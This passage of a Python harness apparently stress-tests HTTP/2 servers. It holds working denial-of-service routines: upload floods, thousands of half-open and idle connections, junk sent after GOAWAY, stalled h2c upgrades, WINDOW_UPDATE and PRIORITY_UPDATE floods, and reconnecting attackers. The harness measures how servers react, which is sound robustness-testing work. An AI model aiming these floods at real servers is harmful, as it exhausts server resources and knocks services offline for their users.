        kind='memory')
def echo_upload_flood(ctx):
    """100 streams of POST /echo sending as much as the server's windows
    allow; the client never gives window back for the echoed response, so
    the server must stop granting window or hold the data."""
    c = Conn(ctx.port, track_windows=True, auto_window=False)
    handshake(c)
    limit = min(100, c.server_settings.get(S_MAX_CONCURRENT_STREAMS, 100))
    blk = request_block(b'POST', b'/echo')
    streams = list(range(1, 2 * limit + 1, 2))
    for s in streams:
        c.follow(s)
    c.send(b''.join(headers(s, blk, end_stream=False) for s in streams), frames=len(streams))
    chunk = b'\0' * 16384
    uploaded = 0
    last_progress = 0.0
    while ctx.running() and c.alive() and uploaded < ctx.max_upload:
        out = []
        size = 0
        for s in streams:
            if c.watch[s]['rst'] is not None:
                continue
            n = min(c.stream_windows.get(s, 0), c.conn_window, 16384)
            if n <= 0:
                continue
            out.append(data(s, chunk[:n]))
            c.stream_windows[s] -= n
            c.conn_window -= n
            size += n
            if size >= 1 << 18:
                break
        if out:
            c.send(b''.join(out), frames=len(out))
            uploaded += size
            last_progress = ctx.elapsed()
            c.pump()
        else:
            c.pump(0.01)
    c.units = uploaded >> 20
    c.drain(0.3)
    if uploaded >= ctx.max_upload:
        ctx.notes.append(f'stopped at the harness cap of {ctx.max_upload >> 20} MiB')
    else:
        ctx.notes.append(f'server stopped granting window at {last_progress:.1f} s')
    ctx.notes.append(f'{uploaded / 2**20:.1f} MiB uploaded, {c.data_bytes / 2**20:.1f} MiB echoed into our window')
    return result(ctx, [c], 'MiB uploaded', uploaded=uploaded)


# ------------------------------------------------------------------ 11. connections that never get going


@attack('half-preface', '2,000 connections that send half a preface and wait', 'connections',
        kind='timeouts', timeouts=True)
def half_preface(ctx):
    """2,000 connections each send the first 12 octets of the 24-octet client
    preface and nothing more."""
    socks, failures = nonblocking_connect_many(ctx.port, 2000)
    conns = []
    for s in socks:
        try:
            s.send(PREFACE[:12])
        except OSError:
            pass
        conns.append(Conn(ctx.port, sock=s, preface=False, ack_settings=False))
        conns[-1].units = 1
    if failures:
        ctx.notes.append(f'{failures} connects failed')
    hold(ctx, conns)
    return result(ctx, conns, 'connections', connect_failures=failures)


@attack('settings-no-ack', '200 connections that never ACK the server SETTINGS', 'connections',
        kind='timeouts', timeouts=True)
def settings_no_ack(ctx):
    """200 connections: preface and SETTINGS, then nothing; the server's
    SETTINGS is never acknowledged (RFC 9113 §6.5.3)."""
    conns = []
    for _ in range(200):
        try:
            c = Conn(ctx.port, ack_settings=False)
        except OSError:
            ctx.notes.append('connect failed')
            break
        c.units = 1
        conns.append(c)
    hold(ctx, conns)
    return result(ctx, conns, 'connections')


@attack('idle-connections', '500 idle connections (handshake done, nothing more)', 'connections',
        kind='memory', reconnect=False)
def idle_connections(ctx):
    """500 connections that complete the preface and SETTINGS exchange and
    then say nothing: the memory per idle connection."""
    conns = []
    for _ in range(500):
        try:
            c = Conn(ctx.port)
        except OSError:
            ctx.notes.append('connect failed')
            break
        c.units = 1
        conns.append(c)
    for c in conns:
        handshake(c, 0.5)
    hold(ctx, conns)
    return result(ctx, conns, 'connections')


# ------------------------------------------------------------------ 12. after GOAWAY


@attack('junk-after-goaway', 'Junk after GOAWAY: keep sending after a connection error', 'MiB',
        kind='timeouts', reconnect=False)
def junk_after_goaway(ctx):
    """A PING on stream 1 (connection error PROTOCOL_ERROR), then 256 KiB of
    junk per write for as long as the server takes it. Measures what the
    server accepted after its GOAWAY, when it half-closed (FIN) and when it
    really closed (a send fails) or stopped reading."""
    c = Conn(ctx.port)
    handshake(c)
    c.send(frame(PING, 0, 1, b'\0' * 8), frames=1)
    c.pump_until(lambda: c.goaways or c.rx_done, 2.0)
    g_t = c.goaways[0]['t'] if c.goaways else None
    if g_t is None:
        ctx.notes.append('no GOAWAY for a PING on stream 1')
    t_err = ctx.elapsed()
    junk = random.Random(1).randbytes(1 << 18)
    sock = c.sock
    after = 0
    fin_t = reset_t = stalled_t = None
    while ctx.running():
        ev = wait_fd(sock, read=not c.rx_done, write=True, timeout=0.5)
        if ev & select.POLLIN and not c.rx_done:
            c.pump()
            if c.rx_done and fin_t is None:
                fin_t = ctx.elapsed()
        if ev & (select.POLLOUT | select.POLLERR | select.POLLHUP):
            try:
                after += sock.send(junk)
                stalled_t = None
            except BlockingIOError:
                pass
            except OSError:
                reset_t = ctx.elapsed()
                break
        elif not ev & select.POLLIN and stalled_t is None:
            stalled_t = ctx.elapsed()
    c.units = after >> 20
    parts = []
    if fin_t is not None:
        parts.append(f'FIN {fin_t - t_err:.2f} s after the error')
    parts.append(f'{after / 2**20:,.1f} MiB accepted after GOAWAY')
    if reset_t is not None:
        parts.append(f'connection reset {reset_t - t_err:.2f} s after the error')
    elif stalled_t is not None:
        parts.append(f'server stopped reading {stalled_t - t_err:.2f} s after the error')
    else:
        parts.append(f'still reading at the end ({ctx.elapsed() - t_err:.1f} s)')
    ctx.notes.append('; '.join(parts))
    return result(ctx, [c], 'MiB', junk_after_goaway=after, fin_after=fin_t and fin_t - t_err,
                  reset_after=reset_t and reset_t - t_err, after=lambda g, u: 'for the error')


@attack('goaway-unread', 'GOAWAY the peer never reads (output blocked, then a connection error)', 'streams',
        kind='timeouts', timeouts=True)
def goaway_unread(ctx):
    """Windows opened, 10 GET /huge.bin so the server's output fills the
    socket, never read; then a PING on stream 1 (PROTOCOL_ERROR). The
    server's GOAWAY cannot be delivered: does it close the connection?"""
    c = Conn(ctx.port, client_settings=[(S_INITIAL_WINDOW_SIZE, 0x7fffffff)], auto_window=False)
    handshake(c)
    c.send(window_update(0, 0x7fffffff - 65535))
    blk = request_block(path=HUGE)
    c.send(b''.join(headers(s, blk) for s in range(1, 21, 2)), frames=10, units=10)
    time.sleep(min(0.5, ctx.left()))
    c.send(frame(PING, 0, 1, b'\0' * 8), frames=1, read=False, block_timeout=0.5)
    err_t = ctx.elapsed()
    _wait_close_unread(ctx, c)
    if c.closed:
        first = f'server closed {c.closed_t - err_t:.1f} s after the error'
    else:
        first = f'connection held {ctx.elapsed() - err_t:.1f} s after the error (until the end)'
    # Then read (up to 1.5 s / 256 MiB) to see whether a GOAWAY was queued.
    c.closed = None
    n = c.drain(1.5, 256 << 20)
    then = (f'GOAWAY {c.goaways[0]["error"]} found' if c.goaways else 'no GOAWAY') + \
        f' in the {n / 2**20:.0f} MiB read afterwards'
    out = result(ctx, [c], 'streams')
    out['reaction'] = f'{first}; {then}'
    return out


# ------------------------------------------------------------------ 13. cleartext port oddities


UPGRADE_HEAD = ('{method} {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: Upgrade, HTTP2-Settings\r\n'
                'Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA\r\n{extra}\r\n')


def _probe_upgrade(port):
    s = socket.create_connection((HOST, port), timeout=2)
    try:
        s.sendall(UPGRADE_HEAD.format(method='GET', path='/index.html', extra='').encode())
        s.settimeout(1.0)
        try:
            got = s.recv(200)
        except OSError:
            got = b''
    finally:
        s.close()
    return got


@attack('h2c-upgrade-bodies', 'h2c upgrade with large bodies: 40 connections, 8 MiB - 1 of 8 MiB sent',
        'MiB sent', kind='memory', reconnect=False)
def h2c_upgrade_bodies(ctx):
    """40 connections send HTTP/1.1 POST /echo with Upgrade: h2c and
    Content-Length 8 MiB, then all of the body but its last octet, and
    wait: the server holds what it buffered until it gives up."""
    got = _probe_upgrade(ctx.port)
    if not got.startswith(b'HTTP/1.1 101'):
        return {'skipped': True, 'reaction': 'skipped: no h2c upgrade on this server (answered %r)' % got[:24],
                'unit': 'MiB sent', 'units': 0, 'notes': [], 'elapsed': round(ctx.elapsed(), 2)}
    length = 8 << 20
    head = UPGRADE_HEAD.format(method='POST', path='/echo', extra=f'Content-Length: {length}\r\n').encode()
    socks, failures = nonblocking_connect_many(ctx.port, 40)
    state = []
    for s in socks:
        state.append({'sock': s, 'buf': memoryview(head + b'\0' * (length - 1)), 'sent': 0, 'recv': b'',
                      'closed': None})
    chunk = 1 << 16
    p = select.poll()
    by_fd = {}
    for st in state:
        by_fd[st['sock'].fileno()] = st
        p.register(st['sock'], select.POLLIN | select.POLLOUT | select.POLLRDHUP)
    while ctx.running() and by_fd:
        for fd, ev in p.poll(100):
            st = by_fd.get(fd)
            if st is None:
                continue
            if ev & (select.POLLIN | select.POLLRDHUP | select.POLLHUP | select.POLLERR):
                try:
                    b = st['sock'].recv(65536)
                except BlockingIOError:
                    b = None
                except OSError:
                    b = b''
                if b == b'':
                    st['closed'] = round(ctx.elapsed(), 2)
                elif b:
                    if len(st['recv']) < 200:
                        st['recv'] += b[:200]
            if st['closed'] is None and ev & select.POLLOUT and st['sent'] < len(st['buf']):
                try:
                    st['sent'] += st['sock'].send(st['buf'][st['sent']:st['sent'] + chunk])
                except BlockingIOError:
                    pass
                except OSError:
                    st['closed'] = round(ctx.elapsed(), 2)
            if st['closed'] is not None:
                p.unregister(fd)
                del by_fd[fd]
            elif st['sent'] >= len(st['buf']):
                p.modify(fd, select.POLLIN | select.POLLRDHUP)
    sent = sum(st['sent'] for st in state)
    answers = collections.Counter(st['recv'].split(b'\r\n', 1)[0].decode('latin-1') or '(nothing)' for st in state)
    closed = [st['closed'] for st in state if st['closed'] is not None]
    full = sum(1 for st in state if st['sent'] >= len(st['buf']))
    for st in state:
        st['sock'].close()
    parts = [f'{a} x{n}' for a, n in answers.most_common(3)]
    if closed:
        parts.append(f'closed {len(closed)}/{len(state)} (first {min(closed):.1f} s)')
    ctx.notes.append(f'{full}/{len(state)} sent the whole body but one octet; {sent / 2**20:.0f} MiB accepted')
    return {'unit': 'MiB sent', 'units': sent >> 20, 'connections': len(state), 'connect_failures': failures,
            'answers': dict(answers), 'closed_conns': len(closed), 'reaction': '; '.join(parts),
            'notes': ctx.notes, 'elapsed': round(ctx.elapsed(), 2)}


def _parse_frames(b):
    out = []
    pos = 0
    while len(b) - pos >= 9:
        n = int.from_bytes(b[pos:pos + 3], 'big')
        if len(b) - pos - 9 < n:
            break
        out.append((b[pos + 3], b[pos + 4], b[pos + 9:pos + 9 + n]))
        pos += 9 + n
    return out


@attack('binary-garbage', 'Binary garbage on the cleartext port (20 connections, 1 KiB each)', 'connections',
        kind='protocol', reconnect=False)
def binary_garbage(ctx):
    """Connections spread over the run, each sending 1 KiB of random octets
    (first octet 0x01: neither a preface nor an HTTP/1.1 request line) and
    reading the answer for 0.3 s: GOAWAY PROTOCOL_ERROR (RFC 9113 §3.4),
    a close, or nothing."""
    rng = random.Random(3)
    n = 20
    answers = collections.Counter()
    for i in range(n):
        if not ctx.running():
            break
        t_next = ctx.t0 + (i + 1) * ctx.duration / (n + 1)
        try:
            s = socket.create_connection((HOST, ctx.port), timeout=2)
        except OSError:
            answers['connect failed'] += 1
            continue
        s.setblocking(False)
        try:
            s.send(b'\x01' + rng.randbytes(1023))
        except OSError:
            pass
        got = b''
        eof = False
        end = time.monotonic() + 0.3
        while time.monotonic() < end:
            wait_fd(s, read=True, timeout=max(0.0, end - time.monotonic()))
            try:
                b = s.recv(65536)
            except BlockingIOError:
                continue
            except OSError:
                eof = True
                break
            if not b:
                eof = True
                break
            got += b
        s.close()
        what = []
        if got.startswith(b'HTTP/'):
            what.append('HTTP/1.1 ' + got.split(b'\r\n', 1)[0].decode('latin-1')[9:])
        else:
            for ftype, _, payload in _parse_frames(got):
                if ftype == 7 and len(payload) >= 8:
                    what.append('GOAWAY ' + error_name(int.from_bytes(payload[4:8], 'big')))
        if eof:
            what.append('closed')
        answers[' + '.join(what) or ('nothing' if not got else f'{len(got)} octets')] += 1
        time.sleep(max(0.0, t_next - time.monotonic()))
    total = sum(answers.values())
    return {'unit': 'connections', 'units': total, 'connections': total, 'answers': dict(answers),
            'reaction': '; '.join(f'{a} {k}/{total}' for a, k in answers.most_common()),
            'notes': ctx.notes, 'elapsed': round(ctx.elapsed(), 2)}


# ------------------------------------------------------------------ 14. stream-walking frames


@attack('window-update-flood', 'Connection WINDOW_UPDATE of 1 octet, 100 streams blocked on window 0',
        'frames', kind='cpu')
def window_update_flood(ctx):
    """100 streams held at stream window 0; 2,000 connection-level
    WINDOW_UPDATEs of 1 per write (each may make a scheduler look at every
    blocked stream)."""
    c = Conn(ctx.port, client_settings=[(S_INITIAL_WINDOW_SIZE, 0)], auto_window=False)
    handshake(c)
    ctx.notes.append(f'{len(open_streams(c, 100))} streams open')
    loop_send(ctx, c, window_update(0, 1) * 2000, frames=2000, units=2000)
    c.drain(0.3)
    return result(ctx, [c], 'frames')


@attack('priority-update-flood', 'PRIORITY_UPDATE flood over 100 open streams (RFC 9218)', 'frames', kind='cpu')
def priority_update_flood(ctx):
    """100 streams held open at window 0; PRIORITY_UPDATE frames for random
    open streams with changing urgency, 2,000 per write."""
    c = Conn(ctx.port, client_settings=[(S_INITIAL_WINDOW_SIZE, 0)])
    handshake(c)
    opened = open_streams(c, 100) or list(range(1, 201, 2))
    send_priority_updates(ctx, c, opened, 9218)
    c.drain(0.3)
    return result(ctx, [c], 'frames')


def send_priority_updates(ctx, c, streams, seed):
    """Until the deadline or the server closes: writes of 2,000
    PRIORITY_UPDATEs for random `streams`, random urgencies, half of them
    incremental."""
    rng = random.Random(seed)
    batches = [b''.join(priority_update(rng.choice(streams), b'u=%d%s' % (rng.randint(0, 7),
                                                                       b', i' if rng.random() < 0.5 else b''))
                        for _ in range(2000)) for _ in range(8)]
    i = 0
    while ctx.running() and c.alive():
        c.send(batches[i % len(batches)], frames=2000, units=2000)
        i += 1
        c.pump()


@attack('priority-update-sending', 'PRIORITY_UPDATE flood over 100 streams whose responses are flowing',
        'frames', kind='cpu')
def priority_update_sending(ctx):
    """100 GET /big.bin with open windows, the DATA read; PRIORITY_UPDATE
    frames moving random streams between urgencies and kinds, 2,000 per
    write, so that every update moves a stream the scheduler holds."""
    c = Conn(ctx.port)
    handshake(c)
    opened = open_streams(c, 100) or list(range(1, 201, 2))
    send_priority_updates(ctx, c, opened, 92180)
    c.drain(0.3)
    ctx.notes.append(f'{fmt(c.data_bytes)} octets of DATA received')
    return result(ctx, [c], 'frames')


@attack('priority-update-idle', 'PRIORITY_UPDATE for ever new idle streams (RFC 9218 §7.1)', 'frames',
        kind='memory')
def priority_update_idle(ctx):
    """PRIORITY_UPDATE frames for streams not opened yet, each a new id, 2,000
    per write: a server that buffers them for later must bound that."""
    c = Conn(ctx.port)
    handshake(c)
    sid = 1
    while ctx.running() and c.alive() and sid < 0x7fff0000:
        c.send(b''.join(priority_update(s, b'u=1') for s in range(sid, sid + 4000, 2)), frames=2000, units=2000)
        sid += 4000
        c.pump()
    c.drain(0.3)
    return result(ctx, [c], 'frames')


# ------------------------------------------------------------------ main


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = ap.add_subparsers(dest='cmd', required=True)
    sub.add_parser('list')
    r = sub.add_parser('run')
    r.add_argument('name', choices=list(ATTACKS))
    r.add_argument('--port', type=int, required=True)
    r.add_argument('--duration', type=float, default=8.0)
    r.add_argument('--max-upload', type=int, default=2 << 30, help='octets, echo-upload-flood')
    r.add_argument('--no-reconnect', action='store_true', help='one connection only, even when it is cut off')
    a = ap.parse_args()
    if a.cmd == 'list':
        for name, m in ATTACKS.items():
            print(f'{name:28} {m["title"]}')
        return 0
    ctx = Ctx(a.port, a.duration, a.max_upload)
    meta = ATTACKS[a.name]
    try:
        out = meta['fn'](ctx)
    except (ConnectionError, OSError) as e:
        out = {'error': f'{type(e).__name__}: {e}', 'reaction': f'attack failed: {type(e).__name__}: {e}',
               'unit': meta['unit'], 'units': 0, 'notes': ctx.notes, 'elapsed': round(ctx.elapsed(), 2)}
    if meta['reconnect'] and not a.no_reconnect and 'error' not in out and not out.get('skipped'):
        keep_going(ctx, meta, out)
    sys.stdout.write(json.dumps(out) + '\n')
    return 0


def _cut_off(r):
    return bool(r.get('first_goaway') or r.get('closed_conns'))


def keep_going(ctx, meta, out, max_conns=5000):
    """An attacker that is cut off comes back: new connections, the same
    attack, until the time is up. The table's reaction stays the first
    connection's; this adds how the others ended."""
    last = out
    ends = collections.Counter()
    more = errors = 0
    units = out.get('units', 0)
    while ctx.running() and _cut_off(last) and more < max_conns and errors < 20:
        sub = Ctx(ctx.port, ctx.duration, ctx.max_upload)
        sub.deadline = ctx.deadline
        try:
            last = meta['fn'](sub)
        except (ConnectionError, OSError) as e:
            errors += 1
            ends[f'connect failed ({type(e).__name__})'] += 1
            time.sleep(0.05)
            continue
        more += 1
        units += last.get('units', 0)
        g = last.get('first_goaway')
        ends[f'GOAWAY {g["error"]}' if g else 'closed' if last.get('closed_conns') else 'not cut off'] += 1
    if more or errors:
        out['reconnects'] = {'connections': more, 'ends': dict(ends), 'units_total': units}
        how = ', '.join(f'{k} {fmt(v)}' for k, v in ends.most_common())
        out['reaction'] += (f'; the attacker came back: {fmt(more)} more connections until the end '
                            f'({how}), {fmt(units)} {out.get("unit", "")} in all')


if __name__ == '__main__':
    sys.exit(main())
